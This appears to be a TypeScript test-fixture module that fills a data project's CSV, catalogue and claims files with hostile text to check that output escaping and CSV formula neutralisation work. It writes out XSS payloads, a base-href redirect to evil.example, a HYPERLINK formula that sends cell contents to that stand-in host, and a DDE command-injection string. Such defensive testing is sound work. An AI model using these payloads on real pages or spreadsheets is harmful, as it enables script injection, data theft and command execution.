import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { ROOT } from './program.ts';

/** What runs if it is ever taken for more than text, and says so by name. */
export const RUNS = '__hit=1';
const MARKUP = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `"><svg onload=${RUNS}>`,
  `'-${RUNS}-'`,
  '</title></style></textarea><base href="//evil.example/">',
  `[x](javascript:${RUNS})`,
  '![x](http://evil.example/x.png)',
  '<!--',
  '\u202eright to left\u2066',
].join(' ');
const FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"x");=1+1';

/** A series under a name that is markup, as the name of a file can be. */
export const SERIES = `<img src=x onerror=${RUNS}>`;

/** The same weekly table, with a series whose name and catalogue entry are hostile. */
export function hostileData(): Record<string, string> {
  const read = (name: string) => readFileSync(join(ROOT, 'reference', name), 'utf8');
  const catalogue = parse(read('catalogue.yaml')) as { description: string; series: Record<string, object> };
  const said = { title: `${FORMULA} ${MARKUP}`, unit: `@SUM(1)<b>`, source: `${MARKUP} javascript:${RUNS}`, note: `-2+3 ${MARKUP}` };
  const series = { ...catalogue.series, [SERIES]: { ...catalogue.series.BTC, ...said } };
  const names = ['RUT', 'BTC', 'ETH', 'SPX', 'NFCI'];
  return {
    ...Object.fromEntries(names.map((name) => [`${name}.csv`, read(`${name}.csv`)])),
    [`${SERIES}.csv`]: read('BTC.csv'),
    'catalogue.yaml': stringify({
      description: `The table ${MARKUP}`,
      series: Object.fromEntries(Object.entries(series).filter(([id]) => names.includes(id) || id === SERIES)),
    }),
  };
}

/** A pack of claims every text of which is hostile. */
export function hostilePack(): string {
  const pack = parse(readFileSync(join(ROOT, 'examples/my-claims.yaml'), 'utf8')) as {
    articles: Record<string, object>;
    series: Record<string, object>;
    claims: Record<string, unknown>[];
  };
  const [claim] = pack.claims;
  return stringify({
    ...pack,
    title: `${FORMULA} ${MARKUP}`,
    question: MARKUP,
    articles: { example: { outlet: `+1 ${MARKUP}`, date: '2020-01-15', dateNote: MARKUP, title: `@x ${MARKUP}`, language: MARKUP } },
    series: { NFCI: { title: MARKUP }, SPX: { title: `${MARKUP}` } },
    claims: [
      {
        ...claim,
        by: `=cmd|' /C calc'!A0 ${MARKUP}`,
        statement: `${FORMULA} ${MARKUP}`,
        test: MARKUP,
        notes: [MARKUP, `${FORMULA}`],
        asserts: [{ label: MARKUP, value: FORMULA }],
      },
    ],
  });
}

/** Whether a spreadsheet would take a cell of this CSV for a formula, whichever of comma and semicolon parts its cells. */
export function formulasIn(csv: string): string[] {
  const starts = /(?:^|[,;\t\r\n])"?(?=[ \u00a0]*[=+@\uff1d\uff0b\uff20]|[ \u00a0]*-(?!\d+(?:\.\d+)?(?:e[+-]?\d+)?(?:[,\r\n]|$)))/gm;
  return [...csv.matchAll(starts)].map(({ index }) => csv.slice(index, index + 40));
}
